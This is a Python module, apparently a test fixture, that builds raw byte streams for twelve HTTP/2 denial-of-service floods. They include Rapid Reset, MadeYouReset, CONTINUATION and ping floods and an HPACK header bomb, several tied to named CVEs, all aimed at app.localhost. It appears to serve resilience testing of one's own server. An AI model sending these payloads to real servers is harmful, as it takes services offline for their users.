"""What a hostile HTTP/2 client sends on one connection, as bytes: the same every time.

Built by ``h2`` where its state machine allows it and by bare frames where it does not.
"""

from collections.abc import Callable, Iterable, Mapping
from typing import Final

import h2.config
import h2.connection
import h2.settings
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FIELDS: Final = [
    (":method", "GET"),
    (":scheme", "https"),
    (":authority", "app.localhost"),
    (":path", "/static/flood"),
]
POST: Final = [(":method", "POST"), *FIELDS[1:]]


def _begun() -> h2.connection.H2Connection:
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    return connection


def _bytes(frames: Iterable[Frame]) -> bytes:
    return b"".join(frame.serialize() for frame in frames)


def opening(*frames: Frame) -> bytes:
    """How a connection begins, and some frames."""
    return PREFACE + SettingsFrame(0).serialize() + _bytes(frames)


def _headers(stream: int, *flags: str, fields: Iterable[tuple[str, str]] = FIELDS) -> HeadersFrame:
    block = hpack.Encoder().encode([(n, v, True) for n, v in fields])
    return HeadersFrame(stream, data=block, flags=flags)


def rapid_reset(streams: int = 2000) -> bytes:
    """Open a stream and reset it at once, again and again (CVE-2023-44487)."""
    connection = _begun()
    for _ in range(streams):
        stream = connection.get_next_available_stream_id()
        connection.send_headers(stream, FIELDS, end_stream=True)
        connection.reset_stream(stream, error_code=8)
    return connection.data_to_send()


def made_you_reset(streams: int = 2000) -> bytes:
    """Open a stream and make the server reset it, with a forbidden frame (CVE-2025-8671)."""
    frames: list[Frame] = []
    for stream in range(1, 2 * streams, 2):
        frames += [_headers(stream, "END_HEADERS"), WindowUpdateFrame(stream, window_increment=0)]
    # hyperframe refuses to write an increment of zero.
    return opening() + b"".join(
        frame.serialize() if isinstance(frame, HeadersFrame) else _zero_window(frame.stream_id)
        for frame in frames
    )


def _zero_window(stream: int) -> bytes:
    return b"\0\0\4\x08\0" + stream.to_bytes(4, "big") + b"\0\0\0\0"


def pings(count: int = 50_000) -> bytes:
    """Pings whose answers nobody reads (CVE-2019-9512)."""
    return opening() + PingFrame(0, opaque_data=b"12345678").serialize() * count


def settings(count: int = 50_000) -> bytes:
    """Settings whose acknowledgements nobody reads (CVE-2019-9515)."""
    return opening() + SettingsFrame(0, settings={4: 65_535}).serialize() * count


def empty_data(count: int = 20_000) -> bytes:
    """DATA frames without data (CVE-2019-9518)."""
    opened = _headers(1, "END_HEADERS", fields=POST)
    return opening(opened) + DataFrame(1, data=b"").serialize() * count


def empty_continuations(count: int = 50_000) -> bytes:
    """CONTINUATION frames without fields and without an end."""
    opened = _headers(1)
    return opening(opened) + ContinuationFrame(1, data=b"").serialize() * count


def continuations(count: int = 4_000) -> bytes:
    """CONTINUATION frames with ever more fields and without an end (CVE-2024-27983)."""
    block = hpack.Encoder().encode([("x-flood", "a" * 2000, True)])
    return opening(_headers(1)) + ContinuationFrame(1, data=block).serialize() * count


def window_updates(count: int = 50_000) -> bytes:
    """Window updates by one byte, for data nobody sent."""
    return opening() + WindowUpdateFrame(0, window_increment=1).serialize() * count


def priorities(count: int = 50_000) -> bytes:
    """A tree of priorities, turned over and over (CVE-2019-9513)."""
    return opening(_headers(1, "END_HEADERS")) + b"".join(
        PriorityFrame(3 + 2 * (n % 50), depends_on=1, stream_weight=n % 256).serialize()
        for n in range(count)
    )


def header_bomb(streams: int = 100, times: int = 3000) -> bytes:
    """One field of 4 kB in the table, named thousands of times in a byte each (CVE-2016-6581)."""
    encoder = hpack.Encoder()
    first = encoder.encode([*FIELDS, ("x-bomb", "a" * 3900)])
    again = encoder.encode([*FIELDS, *[("x-bomb", "a" * 3900)] * times])
    blocks = {1: first, **dict.fromkeys(range(3, 2 * streams, 2), again)}
    ends = ["END_HEADERS", "END_STREAM"]
    return opening(*(HeadersFrame(n, data=block, flags=ends) for n, block in blocks.items()))


def huge_headers(streams: int = 50) -> bytes:
    """A megabyte of fields for every stream."""
    return opening() + b"".join(_large(stream) for stream in range(1, 2 * streams, 2))


def _large(stream: int) -> bytes:
    block = hpack.Encoder().encode(
        [(n, v, True) for n, v in FIELDS] + [("x-large", "a" * 1_000_000, True)], huffman=False
    )
    frames: list[Frame] = [HeadersFrame(stream, data=block[:16_000])]
    frames += [
        ContinuationFrame(stream, data=block[at : at + 16_000])
        for at in range(16_000, len(block), 16_000)
    ]
    frames[-1].flags.add("END_HEADERS")
    return _bytes(frames)


def resets_of_nothing(count: int = 50_000) -> bytes:
    """Resets of streams that were never opened."""
    return opening() + b"".join(
        RstStreamFrame(2 * n + 1, error_code=8).serialize() for n in range(count)
    )


FLOODS: Final[Mapping[str, Callable[[], bytes]]] = {
    flood.__name__: flood
    for flood in (
        rapid_reset,
        made_you_reset,
        pings,
        settings,
        empty_data,
        empty_continuations,
        continuations,
        window_updates,
        priorities,
        header_bomb,
        huge_headers,
        resets_of_nothing,
    )
}
